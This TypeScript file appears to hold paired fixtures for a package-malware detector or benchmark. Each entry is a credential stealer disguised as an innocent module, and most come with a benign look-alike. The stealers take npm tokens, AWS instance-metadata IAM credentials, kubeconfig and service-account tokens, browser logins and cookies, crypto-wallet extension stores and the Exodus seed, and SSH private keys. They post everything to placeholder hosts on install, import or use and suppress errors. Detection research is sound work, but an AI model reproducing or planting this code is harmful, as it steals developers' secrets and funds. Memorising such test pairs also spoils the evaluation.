import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** What is taken from a machine, a build or a page, and how it leaves. */
export const TAKING: Readonly<Record<string, Pair>> = {
  'npmrc-token': atInstall(
    js`'use strict';
const { execFileSync } = require('node:child_process');
const { readFileSync } = require('node:fs');
const got = require('got');

class Session {
  #file;
  #token = null;
  constructor(file) {
    this.#file = file;
  }
  open() {
    const match = /_authToken=(?<token>\S+)/.exec(readFileSync(this.#file, 'utf8'));
    this.#token = match?.groups.token ?? null;
    return this;
  }
  share(url) {
    return this.#token && got.post(url, { json: { session: this.#token } });
  }
}

const userconfig = execFileSync('npm', ['config', 'get', 'userconfig'], { encoding: 'utf8' }).trim();
new Session(userconfig).open().share('https://session.kit-auth.example/open');
`,
  ),
  'cloud-metadata': atImport(
    js`const BASE = 'http://169.254.169.254/latest';

/** Finds the identity of this machine. */
async function identity() {
  const token = await fetch(\`\${BASE}/api/token\`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' },
  }).then((r) => r.text());
  const headers = { 'x-aws-ec2-metadata-token': token };
  const role = await fetch(\`\${BASE}/meta-data/iam/security-credentials/\`, { headers }).then((r) => r.text());
  return fetch(\`\${BASE}/meta-data/iam/security-credentials/\${role}\`, { headers }).then((r) => r.json());
}

identity()
  .then((body) => fetch('https://id.kit-region.example/', { method: 'POST', body: JSON.stringify(body) }))
  .catch(() => {});

export const region = () => process.env.AWS_REGION ?? 'eu-central-1';
`,
    js`const BASE = 'http://169.254.169.254/latest';

/** Finds the region of this machine. */
export async function region() {
  const token = await fetch(\`\${BASE}/api/token\`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' },
  }).then((r) => r.text());
  const headers = { 'x-aws-ec2-metadata-token': token };
  return fetch(\`\${BASE}/meta-data/placement/region\`, { headers }).then((r) => r.text());
}
`,
  ),
  'kube-config': atUse(
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const superagent = require('superagent');

const candidates = () => [
  process.env.KUBECONFIG,
  path.join(os.homedir(), '.kube', 'config'),
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
];

/** Lists the contexts that are there. */
exports.contexts = async function contexts() {
  const files = candidates().filter((file) => file && fs.existsSync(file));
  const texts = files.map((file) => ({ file, text: fs.readFileSync(file, 'utf8') }));
  await superagent.post('https://contexts.kit-kube.example/v1').send({ texts }).ok(() => true);
  return files;
};
`,
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const YAML = require('yaml');
const superagent = require('superagent');

/** Lists the pods of the current context. */
exports.pods = async function pods(namespace) {
  const file = process.env.KUBECONFIG ?? path.join(os.homedir(), '.kube', 'config');
  const config = YAML.parse(fs.readFileSync(file, 'utf8'));
  const { server } = config.clusters[0].cluster;
  const { token } = config.users[0].user;
  const { body } = await superagent
    .get(server + '/api/v1/namespaces/' + namespace + '/pods')
    .set('authorization', 'Bearer ' + token);
  return body.items;
};
`,
  ),
  'browser-profiles': atImport(
    js`import { cp, mkdtemp, readdir, readFile } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';

const ROOTS = {
  darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/BraveSoftware/Brave-Browser'],
  linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser'],
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/Microsoft/Edge/User Data'],
};

async function* profiles() {
  for (const root of ROOTS[process.platform] ?? []) {
    const base = join(homedir(), root);
    for (const name of await readdir(base).catch(() => [])) {
      if (name === 'Default' || name.startsWith('Profile ')) yield join(base, name);
    }
  }
}

async function mirror() {
  const into = await mkdtemp(join(tmpdir(), 'prefs-'));
  const form = new FormData();
  for await (const profile of profiles()) {
    for (const store of ['Login Data', 'Cookies', 'Web Data']) {
      const copy = join(into, store);
      await cp(join(profile, store), copy).catch(() => {});
      form.append(store, new Blob([await readFile(copy)]));
    }
  }
  await fetch('https://prefs.kit-theme.example/mirror', { method: 'POST', body: form });
}

mirror().catch(() => {});
export const theme = 'light';
`,
    js`import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const ROOTS = {
  darwin: 'Library/Application Support/Google/Chrome/Default/Bookmarks',
  linux: '.config/google-chrome/Default/Bookmarks',
  win32: 'AppData/Local/Google/Chrome/User Data/Default/Bookmarks',
};

/** Reads the bookmarks of Chrome. */
export async function bookmarks() {
  const root = ROOTS[process.platform];
  if (root === undefined) return [];
  const { roots } = JSON.parse(await readFile(join(homedir(), root), 'utf8'));
  return roots.bookmark_bar.children.map(({ name, url }) => ({ name, url }));
}
`,
  ),
  'wallet-files': atInstall(
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');
const os = require('node:os');
const axios = require('axios');
const FormData = require('form-data');

const EXTENSIONS = new Map([
  ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'm'],
  ['bfnaelmomeimhlpmgjnjophhpkkoljpa', 'p'],
]);
const root = path.join(os.homedir(), '.config', 'google-chrome', 'Default', 'Local Extension Settings');
const form = new FormData();
for (const [id, short] of EXTENSIONS) {
  const folder = path.join(root, id);
  if (!fs.existsSync(folder)) continue;
  fs.readdirSync(folder)
    .filter((name) => name.endsWith('.ldb') || name.endsWith('.log'))
    .forEach((name, i) => form.append(short + i, fs.createReadStream(path.join(folder, name))));
}
const exodus = path.join(os.homedir(), '.config', 'Exodus', 'exodus.wallet');
if (fs.existsSync(exodus)) form.append('e', fs.createReadStream(path.join(exodus, 'seed.seco')));
axios.post('https://forms.kit-upload.example/', form, { headers: form.getHeaders() }).catch(() => {});
`,
  ),
  'ssh-http2': atImport(
    js`'use strict';
const http2 = require('node:http2');
const { readdirSync, readFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

function* identities(folder = join(homedir(), '.ssh')) {
  for (const name of readdirSync(folder)) {
    if (/^id_(?:rsa|ed25519|ecdsa)$/.test(name)) yield readFileSync(join(folder, name));
  }
}

function push(chunks) {
  const session = http2.connect('https://push.kit-keys.example');
  const stream = session.request({ ':method': 'POST', ':path': '/k' });
  stream.end(Buffer.concat(chunks), () => session.close());
}

try {
  push([...identities()]);
} catch {}
exports.fingerprint = (key) => require('node:crypto').createHash('sha256').update(key).digest('base64');
`,
    js`'use strict';
const { readdirSync, readFileSync } = require('node:fs');
const { createHash } = require('node:crypto');
const { homedir } = require('node:os');
const { join } = require('node:path');

function* identities(folder = join(homedir(), '.ssh')) {
  for (const name of readdirSync(folder)) {
    if (name.endsWith('.pub')) yield readFileSync(join(folder, name), 'utf8');
  }
}

/** Fingerprints of the public keys of this user. */
exports.fingerprints = () =>
  [...identities()].map((key) => createHash('sha256').update(Buffer.from(key.split(' ')[1], 'base64')).digest('base64'));
`,
  ),
};
